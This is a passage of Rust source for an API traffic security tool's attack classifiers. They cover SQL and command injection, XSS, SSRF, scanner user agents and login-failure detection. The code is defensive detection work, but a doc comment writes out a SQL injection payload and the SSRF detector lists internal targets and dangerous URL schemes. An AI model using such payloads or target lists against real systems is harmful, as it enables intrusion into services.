//! Built-in classifiers of one transaction, used by rules as `match = { detector = "NAME" }`.
//!
//! Payload classifiers look at the request as the application would see it: the path, query
//! names and values, header values (not `Authorization` or `Cookie`) and the body, each
//! percent-decoded twice (`%2527` is `'`) with `+` as a space, lowercased. They score evidence
//! and fire on a score, not on one character: a lone apostrophe in `O'Brien` is not SQL
//! injection, `' or 1=1--` is.

pub mod class;
pub mod payload;
pub mod ssrf;

use crate::catalog::sensitive::Sensitive;
use crate::http::Transaction;
use crate::redact::percent_decode_lossy;

/// A classifier a rule can ask for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Detector {
    /// Any of the injection classifiers below.
    Injection,
    Sqli,
    Nosqli,
    Cmdi,
    Traversal,
    Xss,
    Ssti,
    Ldap,
    Jndi,
    /// A parameter carrying a URL or host that points inside (loopback, private, link-local,
    /// metadata) or a dangerous scheme (file:, gopher:, dict:).
    Ssrf,
    /// A known attack tool's user agent.
    ScannerUa,
    /// A login attempt: a request to a login-like endpoint (path ends in login, signin,
    /// token, session, auth, authenticate; method POST).
    Login,
    /// A failed authentication: 401, or a login attempt answered 400/403/422/200 whose body
    /// says the credentials were wrong.
    AuthFailure,
    /// A successful login: a login attempt answered 2xx that is not a failure.
    LoginSuccess,
    /// Sensitive data (e-mail, phone, card, national id, keys) in the response body.
    SensitiveResponse,
    /// A 2xx without credentials on an endpoint whose clients nearly all use credentials (the
    /// catalog's clients with and without, after `auth_bypass_min_calls` calls with).
    AuthBypass,
}

impl Detector {
    pub const NAMES: [&'static str; 16] = [
        "injection",
        "sqli",
        "nosqli",
        "cmdi",
        "traversal",
        "xss",
        "ssti",
        "ldap",
        "jndi",
        "ssrf",
        "scanner_ua",
        "login",
        "auth_failure",
        "login_success",
        "sensitive_response",
        "auth_bypass",
    ];
    const ALL: [Detector; 16] = [
        Detector::Injection,
        Detector::Sqli,
        Detector::Nosqli,
        Detector::Cmdi,
        Detector::Traversal,
        Detector::Xss,
        Detector::Ssti,
        Detector::Ldap,
        Detector::Jndi,
        Detector::Ssrf,
        Detector::ScannerUa,
        Detector::Login,
        Detector::AuthFailure,
        Detector::LoginSuccess,
        Detector::SensitiveResponse,
        Detector::AuthBypass,
    ];

    pub fn parse(s: &str) -> Option<Detector> {
        Detector::NAMES.iter().position(|n| *n == s).map(|i| Detector::ALL[i])
    }

    pub fn as_str(self) -> &'static str {
        Detector::NAMES[self as usize]
    }
}

/// Percent-decode twice and turn `+` into a space, lowercased.
/// Holds nothing [`normalize`] changes: no escape, no `+`, no capital, ASCII only.
fn plain(s: &str) -> bool {
    class::of(s.as_bytes()) & class::NORMALIZES == 0
}

pub fn normalize(s: &str) -> String {
    normalized(s).into_owned()
}

/// [`normalize`], borrowing the value when there is nothing to change (most values): a value
/// can then be judged where it lies and copied only when kept.
pub fn normalized(s: &str) -> std::borrow::Cow<'_, str> {
    if plain(s) {
        return s.into();
    }
    decoded_lowered(s).into()
}

/// [`normalized`] with the byte classes ([`class::of`]) of the result: the table pass that
/// tells whether normalizing changes anything also serves the checks that follow.
pub fn normalized_classed(s: &str) -> (std::borrow::Cow<'_, str>, u16) {
    let c = class::of(s.as_bytes());
    if c & class::NORMALIZES == 0 {
        return (s.into(), c);
    }
    let v = decoded_lowered(s);
    let c = class::of(v.as_bytes());
    (v.into(), c)
}

/// The copying part of [`normalize`]: `+` as a space, percent-decoded twice, lowercased.
/// (`percent_decode_lossy` turns a `+` into a space itself, so the first pass needs no
/// copy with the pluses replaced; an ASCII result is lowercased in place, not copied again.
/// The same text as the three copies made one after the other, see
/// `decoded_lowered_is_replace_decode_twice_lowercase`.)
fn decoded_lowered(s: &str) -> String {
    let once = percent_decode_lossy(s).into_owned();
    let mut twice = if once.contains('%') {
        percent_decode_lossy(&once).into_owned()
    } else {
        once
    };
    if twice.is_ascii() {
        twice.make_ascii_lowercase();
        return twice;
    }
    twice.to_lowercase()
}

/// The labels of the request headers most often kept as inputs.
const HEADER_PARTS: [&str; 14] = [
    "header:user-agent",
    "header:accept",
    "header:content-type",
    "header:referer",
    "header:origin",
    "header:accept-language",
    "header:x-forwarded-for",
    "header:x-requested-with",
    "header:x-forwarded-host",
    "header:x-original-url",
    "header:x-rewrite-url",
    "header:x-real-ip",
    "header:forwarded",
    "header:cache-control",
];

/// Where an input was found (`path`, `query:NAME`, ...).
pub type Part = std::borrow::Cow<'static, str>;

/// What the classifiers look at, built once per transaction. It borrows from the transaction:
/// a value that normalizing leaves as it is (most) is judged where it lies, never copied.
#[derive(Debug, Default)]
pub struct Inputs<'a> {
    /// (where, normalized text): `path`, `query:NAME`, `header:NAME`, `body`.
    /// (The place is borrowed when it is a fixed name: no allocation for it.)
    pub parts: Vec<(Part, Cow<'a, str>)>,
    /// The site itself as (host, port), lowercased: the request's Host, the server's address
    /// (see [`Inputs::add_site`]). A URL naming it is a link, not an SSRF target.
    pub site: Vec<(String, u16)>,
    /// Where the rest of the site comes from, parsed only when a URL needs judging (rare):
    /// most transactions carry no internal-looking URL at all.
    pub site_from: Option<SiteFrom<'a>>,
    /// The attack tool the request's (first) User-Agent names, when [`Inputs::of`] found its
    /// value among those lately left out (which keep their [`scanner_tool`] answer); `None`:
    /// [`classify`] looks it up.
    pub ua_tool: Option<Option<&'static str>>,
}

/// Push an authority (`host`, `host:port`, `[v6]:port`, or a URL) onto `site` as (canonical
/// host, port), `default_port` when it names none.
fn push_site(site: &mut Vec<(String, u16)>, authority: &str, default_port: u16) {
    let a = authority.trim().to_ascii_lowercase();
    let a = crate::util::absolute_rest(&a).unwrap_or(&a);
    let a = a.split(['/', '?', '#']).next().unwrap_or("");
    let (Some(h), p) = crate::util::split_host_port(a) else {
        return;
    };
    let h = h.trim_start_matches('[').trim_end_matches(']').trim_end_matches('.');
    if h.is_empty() {
        return;
    }
    let entry = (ssrf::canonical_host(h), p.unwrap_or(default_port));
    if !site.contains(&entry) {
        site.push(entry);
    }
}

/// The request (for its Host), the server's address and port, and the configured site
/// origins: borrowed, and read only when a URL needs judging.
#[derive(Debug, Default, Clone)]
pub struct SiteFrom<'a> {
    pub server: Option<(std::net::IpAddr, u16)>,
    pub request: Option<&'a crate::http::Message>,
    pub origins: &'a [String],
}

/// Headers whose values are credentials: never scanned, never quoted as evidence (with the
/// redactor's API-key headers).
const SECRET_HEADERS: [&str; 4] = ["authorization", "cookie", "proxy-authorization", "x-api-key"];

/// What [`Inputs::of`] does with a request header, by its lowercased name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum HeaderUse {
    /// A credential, the Host or the length: never an input.
    Skip,
    /// An input (when its value can hold anything), labelled with a fixed string when the
    /// name is a usual one; `read` when the SSRF classifier reads it whatever it holds.
    Input { label: Option<&'static str>, read: bool },
}

/// [`HeaderUse`] of a lowercased name: one `match` (by length, then bytes) instead of a
/// comparison with every name of four lists. Must agree with the lists (see
/// `header_use_agrees_with_the_lists`).
fn header_use(lower: &[u8]) -> HeaderUse {
    let input = |label: &'static str, read: bool| HeaderUse::Input {
        label: Some(label),
        read,
    };
    match lower {
        b"authorization" | b"cookie" | b"proxy-authorization" | b"x-api-key" | b"host" | b"content-length" => {
            HeaderUse::Skip
        }
        b"user-agent" => input("header:user-agent", false),
        b"accept" => input("header:accept", false),
        b"content-type" => input("header:content-type", false),
        b"referer" => input("header:referer", true),
        b"origin" => input("header:origin", true),
        b"accept-language" => input("header:accept-language", false),
        b"x-forwarded-for" => input("header:x-forwarded-for", false),
        b"x-requested-with" => input("header:x-requested-with", false),
        b"x-forwarded-host" => input("header:x-forwarded-host", true),
        b"x-original-url" => input("header:x-original-url", true),
        b"x-rewrite-url" => input("header:x-rewrite-url", true),
        b"x-real-ip" => input("header:x-real-ip", false),
        b"forwarded" => input("header:forwarded", false),
        b"cache-control" => input("header:cache-control", false),
        _ if crate::redact::is_key_header_lower(lower) => HeaderUse::Skip,
        _ => HeaderUse::Input {
            label: None,
            read: false,
        },
    }
}

/// [`header_use`] the slow way, by the lists, for any name (the way taken for names too long
/// for the stack buffer).
fn header_use_by_lists(n: &str) -> HeaderUse {
    if SECRET_HEADERS.iter().any(|s| n.eq_ignore_ascii_case(s))
        || n.eq_ignore_ascii_case("host")
        || n.eq_ignore_ascii_case("content-length")
        || crate::redact::is_key_header(n)
    {
        return HeaderUse::Skip;
    }
    HeaderUse::Input {
        label: HEADER_PARTS.iter().copied().find(|p| p[7..].eq_ignore_ascii_case(n)),
        read: ssrf::READS_HEADERS.iter().any(|h| n.eq_ignore_ascii_case(h)),
    }
}

use std::borrow::Cow;

impl<'a> Inputs<'a> {
    /// Does (host, port) name the site itself? A URL without an explicit port names it when the
    /// host matches; with one, on the site's port or a web port (80, 443: a link written with
    /// the public scheme while the mirror sees the plain port behind a TLS terminator).
    pub fn is_site(&self, host: &str, port: Option<u16>) -> bool {
        let hit = |site: &[(String, u16)]| {
            site.iter()
                .any(|(h, p)| h == host && port.is_none_or(|u| u == *p || u == 80 || u == 443))
        };
        if hit(&self.site) {
            return true;
        }
        let Some(f) = &self.site_from else { return false };
        let mut site = Vec::new();
        let dport = f.server.map_or(80, |(_, p)| p);
        if let Some((ip, p)) = f.server {
            push_site(&mut site, &crate::util::ip_string(ip), p);
        }
        for o in f.origins {
            let https = o.get(..8).is_some_and(|x| x.eq_ignore_ascii_case("https://"));
            push_site(&mut site, o, if https { 443 } else { 80 });
        }
        if hit(&site) {
            return true;
        }
        // The client writes the Host: it names the site only where it cannot be used to
        // launder a probe. An address must be the server's own (above); a name must not be one
        // of the internal names (`localhost`, `*.internal`, metadata).
        let Some(h) = f.request.and_then(|q| q.header("host")) else {
            return false;
        };
        let mut host = Vec::new();
        push_site(&mut host, h, dport);
        host.retain(|(hh, _)| hh.parse::<std::net::IpAddr>().is_err() && ssrf::target(hh, true).is_none());
        hit(&host)
    }

    /// Add an authority (`host`, `host:port`, `[v6]:port`, or a URL) as the site itself;
    /// `default_port` when it names none.
    pub fn add_site(&mut self, authority: &str, default_port: u16) {
        push_site(&mut self.site, authority, default_port);
    }

    /// [`Inputs::of`], with the site itself known: the request's Host and the server's
    /// address and port from the flow, and the configured site origins (all borrowed: read
    /// only when a URL needs judging).
    pub fn of_site(tx: &'a Transaction, server: Option<(std::net::IpAddr, u16)>, origins: &'a [String]) -> Inputs<'a> {
        let mut i = Inputs::of(tx);
        i.site_from = Some(SiteFrom {
            server,
            request: tx.request.as_ref(),
            origins,
        });
        i
    }

    pub fn of(tx: &'a Transaction) -> Inputs<'a> {
        // allocated at the first part kept: most API calls keep none (plain paths and headers)
        let mut parts = Vec::new();
        let Some(q) = &tx.request else {
            return Inputs {
                parts,
                ..Inputs::default()
            };
        };
        let (path, query) = crate::util::split_query(&q.uri).unwrap_or((&q.uri, ""));
        // (a path or query value neither classifier acts on is left out: no label made)
        let (p, c) = normalized_classed(path);
        if read_by_either(&p, c) {
            parts.push(("path".into(), p));
        }
        for (k, v) in crate::redact::query_pairs(query) {
            let k = normalized(k);
            let (v, c) = normalized_classed(v);
            if read_by_either(&v, c) {
                parts.push((crate::util::concat(&["query:", &k]).into(), v));
            }
            if k.contains(['$', '[', '(', '<', '\'']) {
                parts.push(("query-name".into(), k));
            }
        }
        // the first User-Agent line (the one `header` finds) gives the scanner verdict
        let (mut first_ua, mut ua_tool) = (true, None);
        for (n, v) in &q.headers {
            // the name lowercased once, on the stack (names are short), then classified by one
            // match (a long name takes the lists' case-insensitive way)
            let mut buf = [0u8; 48];
            let what = match buf.get_mut(..n.len()) {
                Some(lower) => {
                    lower.copy_from_slice(n.as_bytes());
                    // the whole buffer lowercased: a loop of fixed length the compiler turns
                    // into a few vector steps (the zeros past the name stay zeros)
                    buf.make_ascii_lowercase();
                    header_use(&buf[..n.len()])
                }
                None => header_use_by_lists(n),
            };
            let HeaderUse::Input { label, read } = what else {
                continue;
            };
            // A usual header's value left out below is left out whenever it comes again (the
            // rule reads the value only): a client sends the same `User-Agent` and `Accept`
            // on every call, looked up here instead of judged again byte by byte.
            let usual = !read && label.is_some();
            // (the label compared only for a name of the right length: one line a call)
            let ua = n.len() == 10 && label == Some("header:user-agent");
            if usual && let Some(tool) = dropped::seen(v) {
                if first_ua && ua {
                    ua_tool = Some(tool);
                }
                first_ua &= !ua;
                continue;
            }
            first_ua &= !ua;
            let raw = v;
            // Only the injection classifiers read most headers, and they skip plain values
            // (see payload::scan); the SSRF classifier reads these few whatever they hold.
            // A value normalize would copy as it is is judged and kept where it lies.
            let (v, c) = normalized_classed(v);
            if !read && payload::skipped_by(&v, c) {
                if usual {
                    dropped::add(raw);
                }
                continue;
            }
            // Nor a usual header's value no injection pattern can match (`application/json`,
            // `shop-client/2.0`): the injection scan would pass it over (see payload::scan),
            // and the SSRF classifier does not read it.
            if usual && v.len() <= payload::SCAN_CAP && !payload::may_match(&v, c) {
                dropped::add(raw);
                continue;
            }
            // the usual names' labels are fixed strings (nothing allocated for them)
            let at: Part = match label {
                Some(p) => Part::Borrowed(p),
                None => {
                    let mut at = crate::util::concat(&["header:", n]);
                    at[7..].make_ascii_lowercase();
                    at.into()
                }
            };
            parts.push((at, v));
        }
        if !q.body.is_empty() {
            let form = q
                .header("content-type")
                .is_some_and(|ct| contains_ignore_ascii_case(ct.as_bytes(), b"x-www-form-urlencoded"));
            // (UTF-8 checked by `from_utf8`, whose ASCII runs go a word at a time; only a body
            // that is not UTF-8 takes the lossy repair)
            let text = match std::str::from_utf8(&q.body) {
                Ok(t) => Cow::Borrowed(t),
                Err(_) => String::from_utf8_lossy(&q.body),
            };
            match text {
                Cow::Borrowed(text) => body_parts(text, form, &mut parts),
                Cow::Owned(text) => {
                    // not UTF-8: the parts of the repaired copy are copied out of it
                    let mut own = Vec::new();
                    body_parts(&text, form, &mut own);
                    parts.extend(own.into_iter().map(|(a, v)| (a, Cow::Owned(v.into_owned()))));
                }
            }
        }
        Inputs {
            parts,
            ua_tool,
            ..Inputs::default()
        }
    }
}

/// `hay.to_ascii_lowercase().contains(needle)` for a lowercase ASCII `needle`, without the
/// lowercased copy (an allocation per request with a body).
fn contains_ignore_ascii_case(hay: &[u8], needle: &[u8]) -> bool {
    needle.is_empty() || hay.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
}

/// Does either classifier act on a (normalized) path or query value whose byte classes are
/// `c`? False: the injection scan passes it over (plain, or no pattern can match it; see
/// payload::scan) and the SSRF classifier finds nothing to judge in it (`may_target`), so
/// leaving it out changes no verdict (`values_no_classifier_reads_left_out_change_no_verdict`).
fn read_by_either(v: &str, c: u16) -> bool {
    ssrf::may_target_classed(v, c)
        || !(payload::skipped_by(v, c) || (v.len() <= payload::SCAN_CAP && !payload::may_match(v, c)))
}

/// The request body's parts: a form's fields, a JSON document's strings, else the whole text.
fn body_parts<'t>(text: &'t str, form: bool, parts: &mut Vec<(Part, Cow<'t, str>)>) {
    if form {
        for (k, v) in crate::redact::query_pairs(text) {
            parts.push((crate::util::concat(&["body:", &normalized(k)]).into(), normalized(v)));
        }
    } else if text.trim_start().starts_with(['{', '[']) {
        // JSON: the values the application reads, not the quotes and braces around
        // them, in document order and at any depth (padding or nesting cannot push a
        // payload out of view: the body depth is the only bound). Broken JSON is also
        // scanned whole, so a syntax error hides nothing.
        if !json_strings(text, parts) {
            parts.push(("body".into(), lowercased(text)));
        }
    } else {
        parts.push(("body".into(), lowercased(text)));
    }
}

/// `t.to_lowercase()`, borrowing `t` when it has nothing to lower (ASCII without a capital).
fn lowercased(t: &str) -> Cow<'_, str> {
    if t.is_ascii() && !t.bytes().any(|b| b.is_ascii_uppercase()) {
        return t.into();
    }
    t.to_lowercase().into()
}

/// Could a value under this key be an SSRF target without a scheme (a bare host)?
fn urlish_key(k: &str) -> bool {
    ssrf::urlish(k)
}

/// Every string of a JSON text as a `body:KEY` part (KEY: the innermost object key), and keys
/// that look like operators (`$ne`, as NoSQL injection puts them) or carry payload characters.
/// Values no classifier could fire on (short, identifiers, plain words; unless a URL-ish key
/// makes a bare host matter) are skipped without allocating. Iterative, one pass, no depth
/// limit. False when the text is not JSON (a syntax error before its end); a text cut short
/// (body depth) is fine.
pub fn json_strings<'t>(text: &'t str, out: &mut Vec<(Part, Cow<'t, str>)>) -> bool {
    let b = text.as_bytes();
    // per open container: is it an object; and the open objects' current keys (the innermost
    // key is the last one: O(1) per value, whatever the nesting). A key without escapes or
    // capitals is borrowed from the text.
    // (inline for the usual few levels: no allocation per body)
    let mut objects: crate::util::InlineStack<bool, 16> = Default::default();
    let mut keys: crate::util::InlineStack<Cow<'t, str>, 8> = Default::default();
    let mut expect_key = false;
    let mut i = 0;
    let mut sbuf = String::new();
    // Is a (normalized) value kept? Judged where it lies; copied only when kept and only when
    // it is not in the text as it is (an escape undone, or normalizing changed it).
    let keep = |key: &str, v: &str, c: u16| !payload::skipped_by(v, c) || (v.len() >= 3 && urlish_key(key));
    let label = |key: &str| -> Part { crate::util::concat(&["body:", key]).into() };
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' | b'\n' | b'\r' | b',' | b':' => {
                if b[i] == b',' {
                    expect_key = objects.last() == Some(&true);
                }
                i += 1;
            }
            b'{' => {
                objects.push(true);
                keys.push(Cow::Borrowed(""));
                expect_key = true;
                i += 1;
            }
            b'[' => {
                objects.push(false);
                expect_key = false;
                i += 1;
            }
            b'}' | b']' => {
                match objects.pop() {
                    Some(true) => {
                        keys.pop();
                    }
                    Some(false) => {}
                    None => return false,
                }
                expect_key = false;
                i += 1;
            }
            b'"' => {
                let start = i + 1;
                // Without a backslash before the closing quote (most strings) the string is
                // the text itself: borrowed, nothing unescaped (what json_string would give).
                let raw: Cow<'t, str> = match memchr::memchr2(b'"', b'\\', &b[start..]) {
                    Some(n) if b[start + n] == b'"' => {
                        i = start + n + 1;
                        Cow::Borrowed(&text[start..start + n])
                    }
                    None => {
                        // cut short inside a string (the inspection depth): what was read counts
                        if !expect_key {
                            let (v, c) = normalized_classed(&text[start..]);
                            let key = keys.last().map_or("", |k| k.as_ref());
                            if keep(key, &v, c) {
                                out.push((label(key), v));
                            }
                        }
                        return true;
                    }
                    Some(_) => {
                        let Some(end) = json_string(text, start, &mut sbuf) else {
                            if !expect_key {
                                let (v, c) = normalized_classed(&sbuf);
                                let key = keys.last().map_or("", |k| k.as_ref());
                                if keep(key, &v, c) {
                                    out.push((label(key), Cow::Owned(v.into_owned())));
                                }
                            }
                            return true;
                        };
                        i = end;
                        Cow::Owned(std::mem::take(&mut sbuf))
                    }
                };
                if expect_key {
                    // keys are names: at most 64 characters kept as the part's name
                    // one table pass: a name without capitals or non-ASCII is kept as it is, and
                    // one of only inert bytes (letters, digits, `._-@:+`, most names) holds
                    // none of the payload characters looked for below
                    let kc = class::of(raw.as_bytes());
                    let (k, inert): (Cow<'t, str>, bool) = if kc & (class::UPPER | class::NON_ASCII) != 0 {
                        (Cow::Owned(raw.to_lowercase()), false)
                    } else {
                        (raw, kc & class::NOT_INERT == 0)
                    };
                    if k.starts_with('$') {
                        out.push(("body-key".into(), Cow::Owned(format!("{{\"{}\":", cut(&k, 64)))));
                    } else if !inert && k.contains(['[', '(', '<', '\'', '"', ';', '|', '`']) {
                        out.push(("body-name".into(), Cow::Owned(normalize(&k))));
                    }
                    if let Some(cur) = keys.last_mut() {
                        *cur = match k {
                            Cow::Borrowed(k) => Cow::Borrowed(cut(k, 64)),
                            Cow::Owned(mut k) => {
                                k.truncate(cut(&k, 64).len());
                                Cow::Owned(k)
                            }
                        };
                    }
                    expect_key = false;
                } else {
                    let key = keys.last().map_or("", |k| k.as_ref());
                    match raw {
                        Cow::Borrowed(r) => {
                            let (v, c) = normalized_classed(r);
                            if keep(key, &v, c) {
                                out.push((label(key), v));
                            }
                        }
                        Cow::Owned(r) => {
                            let (v, c) = normalized_classed(&r);
                            if keep(key, &v, c) {
                                let v = Cow::Owned(v.into_owned());
                                out.push((label(key), v));
                            }
                            // the buffer back for the next escaped string
                            sbuf = r;
                        }
                    }
                }
            }
            // numbers, true, false, null
            c if c == b'-' || c.is_ascii_alphanumeric() || c == b'.' || c == b'+' => i += 1,
            _ => return false,
        }
    }
    true
}

/// `s` cut to at most `max` bytes at a character boundary.
pub(crate) fn cut(s: &str, max: usize) -> &str {
    let mut end = s.len().min(max);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// A JSON string's contents from `t[start..]` (just after the opening quote) into `out`,
/// escapes undone; the index after the closing quote, or `None` when the text ends first.
/// Escapes and quotes are ASCII, so every run between them is whole UTF-8.
fn json_string(t: &str, start: usize, out: &mut String) -> Option<usize> {
    out.clear();
    let b = t.as_bytes();
    let hex4 = |i: usize| t.get(i..i + 4).and_then(|h| u32::from_str_radix(h, 16).ok());
    let (mut i, mut run) = (start, start);
    while i < b.len() {
        match b[i] {
            b'"' => {
                out.push_str(t.get(run..i)?);
                return Some(i + 1);
            }
            b'\\' => {
                out.push_str(t.get(run..i)?);
                let e = *b.get(i + 1)?;
                i += 2;
                match e {
                    b'n' => out.push('\n'),
                    b't' => out.push('\t'),
                    b'r' => out.push('\r'),
                    b'b' => out.push('\u{8}'),
                    b'f' => out.push('\u{c}'),
                    b'u' => {
                        // a broken escape is kept as U+FFFD, never the end of the scan
                        let mut cp = match hex4(i) {
                            Some(c) => {
                                i += 4;
                                c
                            }
                            None => 0xfffd,
                        };
                        if (0xd800..0xdc00).contains(&cp)
                            && t.get(i..i + 2) == Some("\\u")
                            && let Some(lo) = hex4(i + 2).filter(|lo| (0xdc00..0xe000).contains(lo))
                        {
                            cp = 0x10000 + ((cp - 0xd800) << 10) + (lo - 0xdc00);
                            i += 6;
                        }
                        out.push(char::from_u32(cp).unwrap_or('\u{fffd}'));
                    }
                    other if other.is_ascii() => out.push(other as char),
                    _ => {
                        out.push('\u{fffd}');
                        while i < b.len() && !t.is_char_boundary(i) {
                            i += 1;
                        }
                    }
                }
                run = i;
            }
            _ => i += 1,
        }
    }
    // cut short: keep what was read
    out.push_str(t.get(run..).unwrap_or(""));
    None
}

/// A status code as evidence text: the usual ones borrowed (no allocation), others made.
fn status_text(status: u16) -> Cow<'static, str> {
    match status {
        200 => "200".into(),
        201 => "201".into(),
        204 => "204".into(),
        400 => "400".into(),
        401 => "401".into(),
        403 => "403".into(),
        422 => "422".into(),
        _ => status.to_string().into(),
    }
}

/// The classifiers' verdicts on one transaction, with a short evidence string for each.
#[derive(Debug, Default)]
pub struct Verdicts {
    /// (A fixed evidence text, most of them, is borrowed: no allocation per verdict.)
    hits: Vec<(Detector, Cow<'static, str>)>,
}

impl Verdicts {
    pub fn has(&self, d: Detector) -> bool {
        match d {
            Detector::Injection => self.hits.iter().any(|(h, _)| h.is_injection()),
            _ => self.hits.iter().any(|(h, _)| *h == d),
        }
    }

    /// The evidence of `d` (for injection: the first injection classifier that fired).
    pub fn evidence(&self, d: Detector) -> Option<(&'static str, &str)> {
        self.hits
            .iter()
            .find(|(h, _)| *h == d || (d == Detector::Injection && h.is_injection()))
            .map(|(h, e)| (h.as_str(), e.as_ref()))
    }

    /// Flagged as an attack on its own: an injection payload, an attack tool, an SSRF probe.
    /// Such traffic is judged but teaches no baseline or profile.
    pub fn attack(&self) -> bool {
        self.has(Detector::Injection) || self.has(Detector::ScannerUa) || self.has(Detector::Ssrf)
    }

    pub fn names(&self) -> Vec<&'static str> {
        self.hits.iter().map(|(h, _)| h.as_str()).collect()
    }
}

impl Detector {
    fn is_injection(self) -> bool {
        matches!(
            self,
            Detector::Sqli
                | Detector::Nosqli
                | Detector::Cmdi
                | Detector::Traversal
                | Detector::Xss
                | Detector::Ssti
                | Detector::Ldap
                | Detector::Jndi
        )
    }
}

/// Login-like endpoints by their path's last literal segment.
pub fn is_login_path(path: &str) -> bool {
    // the last segment after the trailing slashes (a byte loop and one reverse search: what
    // `trim_end_matches('/').rsplit('/')` gives, without their pattern searchers)
    let b = path.as_bytes();
    let mut end = b.len();
    while end > 0 && b[end - 1] == b'/' {
        end -= 1;
    }
    let last = &b[memchr::memrchr(b'/', &b[..end]).map_or(0, |i| i + 1)..end];
    // cut at the first `.` or `;` before lowering (lowering keeps every byte where it is), and
    // lowered on the stack: no name below is longer than 16 bytes
    let last = &last[..last.iter().position(|&b| b == b'.' || b == b';').unwrap_or(last.len())];
    let mut buf = [0u8; 16];
    let Some(lower) = buf.get_mut(..last.len()) else {
        return false;
    };
    lower.copy_from_slice(last);
    lower.make_ascii_lowercase();
    matches!(
        &*lower,
        b"login"
            | b"signin"
            | b"sign-in"
            | b"sign_in"
            | b"logon"
            | b"token"
            | b"session"
            | b"sessions"
            | b"auth"
            | b"authenticate"
            | b"oauth2"
            | b"j_security_check"
    )
}

/// Words in a response body that say the credentials were wrong.
fn failure_body(body: &[u8]) -> bool {
    let t = String::from_utf8_lossy(&body[..body.len().min(2048)]).to_lowercase();
    [
        "invalid",
        "incorrect",
        "wrong",
        "failed",
        "denied",
        "unauthorized",
        "bad credentials",
        "not match",
    ]
    .iter()
    .any(|w| t.contains(w))
}

/// The sensitive response's evidence: the kinds found, by name in their order, joined by
/// commas; personal data and private keys only (tokens are what login endpoints are for).
/// A fixed text per set of kinds, made once: no string built per response.
fn sensitive_evidence(sensitive: &std::collections::BTreeSet<Sensitive>) -> Option<Cow<'static, str>> {
    const ALL: [Sensitive; 7] = Sensitive::ALL;
    static TEXTS: std::sync::LazyLock<Vec<String>> = std::sync::LazyLock::new(|| {
        (0..1usize << ALL.len())
            .map(|m| {
                let names: Vec<&str> = (0..ALL.len())
                    .filter(|i| m & 1 << i != 0)
                    .map(|i| ALL[i].as_str())
                    .collect();
                names.join(",")
            })
            .collect()
    });
    let mut mask = 0usize;
    for k in sensitive
        .iter()
        .filter(|k| !matches!(k, Sensitive::Jwt | Sensitive::ApiKey))
    {
        // (a kind missing from `ALL` takes the slow way, never a wrong text)
        match ALL.iter().position(|a| a == k) {
            Some(i) => mask |= 1 << i,
            None => return Some(sensitive_evidence_joined(sensitive).into()),
        }
    }
    (mask != 0).then(|| Cow::Borrowed(TEXTS[mask].as_str()))
}

/// [`sensitive_evidence`] by a join (the reference its texts are held to).
fn sensitive_evidence_joined(sensitive: &std::collections::BTreeSet<Sensitive>) -> String {
    let kinds: Vec<&str> = sensitive
        .iter()
        .filter(|k| !matches!(k, Sensitive::Jwt | Sensitive::ApiKey))
        .map(|k| k.as_str())
        .collect();
    kinds.join(",")
}

/// Run every classifier over one transaction.
pub fn classify(tx: &Transaction, inputs: &Inputs, sensitive: &std::collections::BTreeSet<Sensitive>) -> Verdicts {
    let mut v = Verdicts::default();
    for (d, e) in payload::scan(inputs) {
        v.hits.push((d, e.into()));
    }
    if let Some(e) = ssrf::scan(inputs) {
        v.hits.push((Detector::Ssrf, e.into()));
    }
    let q = tx.request.as_ref();
    let tool = match inputs.ua_tool {
        Some(known) => known,
        None => q.and_then(|q| q.header("user-agent")).and_then(scanner_tool),
    };
    if let Some(tool) = tool {
        v.hits.push((Detector::ScannerUa, tool.into()));
    }
    let status = tx.response.as_ref().map(|r| r.status).unwrap_or(0);
    // A refresh-token grant (OAuth `grant_type=refresh_token`, no password) renews a session;
    // it is not someone logging in. A stray `refresh_token` field does not switch login
    // detection off.
    let refresh = q.is_some_and(|q| {
        let b = &q.body;
        // every grant form below holds `refresh_token`: one search rules most bodies out
        static REFRESH: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
            std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"refresh_token"));
        if REFRESH.find(b).is_none() {
            return false;
        }
        let grant = memchr::memmem::find(b, b"grant_type=refresh_token").is_some()
            || memchr::memmem::find(b, b"\"grant_type\":\"refresh_token\"").is_some()
            || memchr::memmem::find(b, b"\"grant_type\": \"refresh_token\"").is_some();
        grant && memchr::memmem::find(b, b"password").is_none()
    });
    let login = !refresh && q.is_some_and(|q| q.method == "POST" && is_login_path(crate::util::target_path(&q.uri)));
    if login {
        v.hits.push((Detector::Login, "".into()));
    }
    let body = tx.response.as_ref().map(|r| r.body.as_slice()).unwrap_or(&[]);
    let failed = status == 401 || (login && matches!(status, 200 | 400 | 403 | 422) && failure_body(body));
    if failed {
        v.hits.push((Detector::AuthFailure, status_text(status)));
    } else if login && (200..300).contains(&status) {
        v.hits.push((Detector::LoginSuccess, status_text(status)));
    }
    if let Some(kinds) = sensitive_evidence(sensitive) {
        v.hits.push((Detector::SensitiveResponse, kinds));
    }
    v
}

/// A quick spread of bytes for the per-thread memo slots (a multiply per eight bytes; a byte
/// at a time cost more than the rest of a look-up). Only where an answer is kept: any spread is
/// right, the slot's stored value is compared whole.
fn spread(b: &[u8]) -> u64 {
    const K: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut h = b.len() as u64;
    let mut words = b.chunks_exact(8);
    for w in &mut words {
        let w = <[u8; 8]>::try_from(w).map_or(0, u64::from_le_bytes);
        h = (h ^ w).wrapping_mul(K).rotate_left(23);
    }
    // the last one to seven bytes as one word (zero-padded: the length above tells them apart)
    let rest = words.remainder();
    if !rest.is_empty() {
        let mut w = [0u8; 8];
        w[..rest.len()].copy_from_slice(rest);
        h = (h ^ u64::from_le_bytes(w)).wrapping_mul(K).rotate_left(23);
    }
    h.wrapping_mul(K)
}

/// The values of usual request headers (labelled, not read by the SSRF classifier) that
/// [`Inputs::of`] lately left out (per thread; exact, direct-mapped: a slot holds the whole
/// value, so a hit is always right and a miss only costs the judging). Whether such a value
/// is left out depends on the value alone.
mod dropped {
    use std::cell::RefCell;

    const SLOTS: usize = 256;
    /// Longest value kept (a slot's memory is bounded).
    const MAX: usize = 128;

    /// A value, and the attack tool it names as a User-Agent ([`super::scanner_tool`]: a
    /// function of the value alone, worked out when it is kept).
    type Slot = (Box<str>, Option<&'static str>);

    thread_local! {
